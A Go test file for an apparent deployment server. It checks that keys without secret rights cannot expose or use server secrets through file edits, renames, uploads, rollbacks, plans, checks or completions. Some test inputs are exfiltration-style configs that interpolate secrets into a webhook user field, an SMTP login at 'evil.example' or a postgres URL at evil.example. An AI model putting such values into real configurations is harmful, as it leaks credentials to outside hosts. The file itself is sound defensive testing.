package app_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	files "github.com/millrace/millrace/project"
)

// thief is a project folder with the server's own secrets beside it.
func thief(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := project(t, files)
	if err := os.MkdirAll(filepath.Join(dir, ".secrets"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, ".secrets", "smtp_password"), []byte("canary-of-the-server\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// made is an API key that the admin makes.
func (r *running) made(role string) string {
	r.t.Helper()
	status, text := r.admin("POST", "/api/v1/keys", []byte(`{"name":"`+role+`","role":"`+role+`","all_environments":true}`), "application/json")
	var key struct{ Token string }
	if err := json.Unmarshal([]byte(text), &key); err != nil || status != 201 {
		r.t.Fatalf("%d %s", status, text)
	}
	return key.Token
}

// upload posts packed files with a key.
func (r *running) upload(key, path string, files map[string]string) (int, string) {
	r.t.Helper()
	req, err := http.NewRequest("POST", r.URL()+path, bytes.NewReader(packed(r.t, files)))
	if err != nil {
		r.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+key)
	req.Header.Set("Content-Type", "application/gzip")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		r.t.Fatal(err)
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(resp.Body)
	if err != nil {
		r.t.Fatal(err)
	}
	return resp.StatusCode, string(text)
}

// stealing is a webhook that says the server's secret in every record.
const stealing = "kind: webhook\nwrite_keys: [abcd1234]\nuser: \"'${secret:smtp_password}'\"\n"

// TestStolenByVersion: who deploys cannot have a secret of the server shown,
// whichever way files come to run.
func TestStolenByVersion(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, thief(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	editor := r.made("editor")
	harmless := with(shop, "hook.bak", stealing, "notes.md", stealing, "old/hook.yaml", stealing,
		"millrace.yaml", shop["millrace.yaml"]+"environments: {staging: {}, production: {}}\n", "sources/web.yaml", shop["sources/web.yaml"]+"environments: {staging: {write_keys: [stage_1]}}\n")
	mustDeploy := func(name, path string, files map[string]string) {
		t.Helper()
		if status, text := r.upload(adminToken, path, files); status != 200 {
			t.Fatalf("%s: %d %s", name, status, text)
		}
	}
	if status, text := r.upload(editor, "/api/v1/releases?message=x&base=1", harmless); status != 200 {
		t.Fatalf("files that nothing reads: %d %s", status, text)
	}
	mustDeploy("the owner uses it", "/api/v1/releases?message=x&base=2", with(harmless, "sources/hook.yaml", stealing))
	mustDeploy("and no longer", "/api/v1/releases?message=x&base=3", harmless)
	mustDeploy("and something else", "/api/v1/releases?message=x&base=4", with(harmless, "README.md", "A shop.\n"))
	if status, text := r.admin("POST", "/api/v1/workspaces/default/environments", []byte(`{"name":"staging"}`), "application/json"); status/100 != 2 {
		t.Fatalf("%d %s", status, text)
	}
	as := func(method, path string, body any) func() (int, string) {
		return func() (int, string) { return r.request(editor, method, path, body) }
	}
	deployed := func(base int, files map[string]string) func() (int, string) {
		return func() (int, string) {
			return r.upload(editor, fmt.Sprintf("/api/v1/releases?message=x&base=%d", base), files)
		}
	}
	sha := sumOf(stealing)
	for name, try := range map[string]func() (int, string){
		"a file that is no text is renamed":     as("POST", "/api/v1/files/rename", object{"from": "hook.bak", "to": "sources/hook.yaml", "etag": sha}),
		"a text is renamed":                     as("POST", "/api/v1/files/rename", object{"from": "notes.md", "to": "sources/hook.yaml", "etag": sha}),
		"a file is moved":                       as("POST", "/api/v1/files/rename", object{"from": "old/hook.yaml", "to": "sources/hook.yaml", "etag": sha}),
		"a file is saved":                       as("PUT", "/api/v1/files/text?path=sources/hook.yaml", object{"text": stealing}),
		"a value is changed":                    as("POST", "/api/v1/files/edit", object{"path": "sources/web.yaml", "etag": sumOf(harmless["sources/web.yaml"]), "changes": []object{{"op": "set", "path": []any{"write_keys"}, "value": []any{"${secret:smtp_password}"}}}}),
		"files are uploaded":                    deployed(5, with(shop, "sources/hook.yaml", stealing)),
		"files of an older base are uploaded":   deployed(1, with(shop, "sources/hook.yaml", stealing)),
		"files of the base that had it":         deployed(3, with(harmless, "sources/hook.yaml", stealing)),
		"for the environment in its own fields": deployed(5, with(harmless, "sources/hook.yaml", "kind: webhook\nwrite_keys: [abcd1234]\nenvironments: {production: {user: \"'${secret:smtp_password}'\"}}\n")),
		"written otherwise":                     deployed(5, with(shop, "sources/hook.yaml", "kind: webhook\nwrite_keys: [abcd1234]\nuser: \"'\\x24{secret:smtp_password}'\"\n")),
		"in a file with mistakes":               deployed(5, with(shop, "sources/hook.yaml", "kind: [\n ${secret:smtp_password}\n")),
		"a version is gone back to":             as("POST", "/api/v1/releases/rollback", object{"to": 3}),
		"a version is promoted":                 as("POST", "/api/v1/releases/promote", object{"version": 3}),
		"a version is promoted elsewhere":       as("POST", "/api/v1/releases/promote", object{"version": 3, "to": "staging"}),
		"a password where it is sent elsewhere": deployed(5, with(shop, "millrace.yaml", shop["millrace.yaml"]+"smtp: {address: 'evil.example:587', from: 'a@evil.example', user: a, password: '${secret:smtp_password}'}\ncollect: {public_url: 'https://x.example'}\n")),
	} {
		if status, text := try(); status != 403 || !strings.Contains(text, "secret:use") || strings.Contains(text, "canary") {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
	if v := r.version(); v != 5 {
		t.Errorf("version %d runs", v)
	}
	if status, text := r.admin("GET", "/api/v1/deploys", nil, ""); status != 200 || strings.Count(text, `"number"`) != 5 {
		t.Errorf("what was refused left something: %d %s", status, text)
	}
	if status, text, _ := r.asKey("", "POST", "/v1/webhook/hook", "{}"); status == 200 {
		t.Errorf("the webhook is there: %d %s", status, text)
	}
	mustDeploy("the owner uses it again", "/api/v1/releases?message=x&base=5", with(harmless, "sources/hook.yaml", stealing))
	if status, text := r.request(editor, "PUT", "/api/v1/files/text?path=README.md", object{"text": "What was allowed stays.\n"}); status != 200 {
		t.Errorf("an edit beside a use: %d %s", status, text)
	}
	if status, text := r.request(editor, "POST", "/api/v1/files/rename", object{"from": "sources/hook.yaml", "to": "sources/other.yaml", "etag": sha}); status != 403 || !strings.Contains(text, "secret:use") {
		t.Errorf("another resource: %d %s", status, text)
	}
}

// sumOf is the etag of a text.
func sumOf(text string) string { return files.ETagOf([]byte(text)) }

// TestToldByPlan: who may look at files, but not use secrets, is told neither by a
// plan nor by a check what a secret of the server is, and both go on working.
func TestToldByPlan(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, thief(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	status, text := r.admin("PUT", "/api/v1/secrets", []byte(`{"path":"github","value":"canary-github-1","resources":["sources/github"]}`), "application/json")
	if status != 200 {
		t.Fatalf("%d %s", status, text)
	}
	viewer, editor := r.made("viewer"), r.made("editor")
	web := func(origin string) map[string]string {
		return with(shop, "sources/web.yaml", "kind: http\nwrite_keys: [web_1]\ncors_origins: ['"+origin+"']\n")
	}
	const shown = "https://${secret:smtp_password}.example"
	for name, files := range map[string]map[string]string{
		"shown":           web(shown),
		"cut":             web("https://" + strings.Repeat("a", 300) + ".${secret:smtp_password}.example"),
		"compared":        with(shop, "sources/ios.yaml", "kind: http\nwrite_keys: ['${secret:smtp_password}']\n"),
		"that is not set": web("https://${secret:not_there}.example"),
	} {
		for who, key := range map[string]string{"viewer": viewer, "editor": editor} {
			status, text := r.upload(key, "/api/v1/releases/plan", files)
			if status != 200 || strings.Contains(text, "canary") || !strings.Contains(text, `"kind":"secret"`) || !strings.Contains(text, "secret:use") {
				t.Errorf("a plan of what is %s, by a key of a %s: %d %s", name, who, status, text)
			}
			texts := object{}
			for path, text := range files {
				texts[path] = text
			}
			status, text = r.request(key, "POST", "/api/v1/files/check", object{"texts": texts})
			if status != 200 || strings.Contains(text, "canary") || !strings.Contains(text, "secret:use") || strings.Contains(text, "is not set") {
				t.Errorf("a check of what is %s, by a key of a %s: %d %s", name, who, status, text)
			}
		}
	}
	if status, text := r.upload(adminToken, "/api/v1/releases/plan", web(shown)); status != 200 || strings.Contains(text, "canary") || strings.Contains(text, `"kind":"secret"`) || !strings.Contains(text, shown) {
		t.Errorf("by who may use secrets: %d %s", status, text)
	}
	allowed := with(shop, "sources/github.yaml", webhook("github"))
	if status, text := r.upload(editor, "/api/v1/releases/plan", allowed); status != 200 || strings.Contains(text, `"kind":"secret"`) {
		t.Errorf("what the vault allows: %d %s", status, text)
	}
	if status, text := r.upload(editor, "/api/v1/releases?base=1&message=x", allowed); status != 200 {
		t.Errorf("what was planned: %d %s", status, text)
	}
	for who, key := range map[string]string{"viewer": viewer, "editor": editor} {
		if status, text := r.upload(key, "/api/v1/releases/plan", with(allowed, "README.md", "x")); status != 200 || strings.Contains(text, `"kind":"secret"`) {
			t.Errorf("what runs with its secrets already, by a key of a %s: %d %s", who, status, text)
		}
		if status, text := r.request(key, "POST", "/api/v1/files/check", object{}); status != 200 || !strings.Contains(text, `"problems":[]`) {
			t.Errorf("a check of what runs, by a key of a %s: %d %s", who, status, text)
		}
	}
}

// TestToldOfSecrets: who may not list secrets is told neither which there are nor
// who may use them, and nobody of another workspace which the server has.
func TestToldOfSecrets(t *testing.T) {
	t.Parallel()
	r := mustProduce(t, thief(t, shop), filepath.Join(t.TempDir(), "data"), io.Discard)
	as := func(path string, body any) string {
		t.Helper()
		encoded, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		method := "POST"
		if path == "/api/v1/secrets" {
			method = "PUT"
		}
		status, text := r.admin(method, path, encoded, "application/json")
		if status/100 != 2 {
			t.Fatalf("%s: %d %s", path, status, text)
		}
		return text
	}
	as("/api/v1/secrets", object{"path": "stripe", "value": "canary-stripe-1", "resources": []string{"sources/zebra", "warehouse"}, "hosts": []string{"zebra.example.com"}})
	as("/api/v1/workspaces", object{"name": "acme"})
	var allows struct{ Token string }
	if err := json.Unmarshal([]byte(as("/api/v1/keys", object{"name": "allows", "permissions": []string{"file:read", "file:write", "release:read", "release:deploy", "secret:use"}})), &allows); err != nil {
		t.Fatal(err)
	}
	viewer := r.made("viewer")
	source := func(path string) object { return object{"texts": object{"sources/zebra.yaml": webhook(path)}} }
	_, there := r.request(viewer, "POST", "/api/v1/files/check", source("stripe"))
	_, missing := r.request(viewer, "POST", "/api/v1/files/check", source("nothin"))
	if !strings.Contains(there, "secret:use") || strings.ReplaceAll(there, "stripe", "nothin") != missing {
		t.Errorf("a viewer is told whether there is a secret: %s, and %s", there, missing)
	}
	mine := object{"texts": object{"sources/mine.yaml": webhook("stripe"), "millrace.yaml": shop["millrace.yaml"] + "warehouse: postgres://u:${secret:stripe}@evil.example/x\n"}}
	for who, key := range map[string]string{"viewer": viewer, "one who may allow uses": allows.Token} {
		if status, text := r.request(key, "POST", "/api/v1/files/check", mine); status != 200 || strings.Contains(text, "zebra") || !strings.Contains(text, "secret:use") {
			t.Errorf("a check by a key of a %s: %d %s", who, status, text)
		}
		files := with(shop, "sources/mine.yaml", webhook("stripe"))
		if _, text := r.upload(key, "/api/v1/releases/plan", files); strings.Contains(text, "zebra") || !strings.Contains(text, "secret:use") {
			t.Errorf("a plan by a key of a %s: %s", who, text)
		}
		if status, text := r.upload(key, "/api/v1/releases?base=1&message=x", files); status/100 == 2 || strings.Contains(text, "zebra") {
			t.Errorf("a deployment by a key of a %s: %d %s", who, status, text)
		}
	}
	if status, text := r.request(adminToken, "POST", "/api/v1/files/check", mine); status != 200 || !strings.Contains(text, "now: sources/zebra") {
		t.Errorf("who may list them is told what is to be added to: %d %s", status, text)
	}
	if status, text := r.request(viewer, "GET", "/api/v1/deploys", nil); status != 200 || !strings.Contains(text, "may not use the secret stripe") || strings.Contains(text, "zebra") {
		t.Errorf("the deployment that failed: %d %s", status, text)
	}
	complete := object{"path": "sources/mine.yaml", "text": "kind: webhook\nuser: $", "line": 2, "column": 8}
	for who, c := range map[string]struct {
		key, path string
		told      bool
	}{
		"a viewer":                            {viewer, "/api/v1/files/complete", false},
		"an editor":                           {r.made("editor"), "/api/v1/files/complete", true},
		"who may do all, in another of these": {adminToken, "/api/v1/w/acme/files/complete", false},
	} {
		if status, text := r.request(c.key, "POST", c.path, complete); status != 200 || strings.Contains(text, "smtp_password") != c.told {
			t.Errorf("completion tells %s: %d %s", who, status, text)
		}
	}
}
